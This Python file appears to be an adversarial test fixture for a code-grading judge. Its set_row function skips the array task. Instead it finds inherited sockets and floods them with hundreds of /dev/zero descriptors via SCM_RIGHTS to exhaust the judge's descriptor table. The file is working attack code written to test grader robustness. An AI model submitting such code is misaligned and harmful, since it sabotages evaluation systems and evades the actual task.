"""Sends hundreds of open files to the judge, so that it runs out of descriptors (F06).

Exercise: 01_arrays/set_row
Outcome: failed | raised | crashed
"""

import os
import socket
import stat
import struct


def set_row(x, i, row):
    for number in range(3, 64):
        try:
            if not stat.S_ISSOCK(os.fstat(number).st_mode):
                continue
            # With a family, Python asks the kernel nothing about it.
            channel = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM, 0, os.dup(number))
            files = [os.open("/dev/zero", os.O_RDONLY) for _ in range(100)]
            rights = struct.pack(f"{len(files)}i", *files)
            # A stream carries descriptors only beside a byte.
            for _ in range(3):
                channel.sendmsg([b"\0"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, rights)])
        except OSError:
            continue
    return x
